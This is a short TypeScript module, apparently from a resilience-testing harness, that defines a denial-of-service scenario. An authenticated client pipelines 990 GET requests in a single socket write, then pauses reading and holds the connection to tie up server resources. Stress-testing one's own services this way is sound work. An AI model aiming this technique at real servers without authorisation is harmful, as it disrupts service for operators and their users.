import { type Attack, hold, openRaw, openSeveral } from './attack.ts';

export const pipelining: Attack = {
  title: 'an account asks for 990 pages in one write, and reads none',
  async run(target, signal) {
    const { host, pathname } = new URL(target.https);
    const get =
      `GET ${pathname}${target.page} HTTP/1.1\r\nHost: ${host}\r\n` +
      `X-Svc-Session: ${target.token}\r\n\r\n`;
    const [socket] = await openSeveral(1, () => openRaw(target), signal);
    socket?.pause();
    socket?.write(get.repeat(990));
    await hold(signal);
  },
};
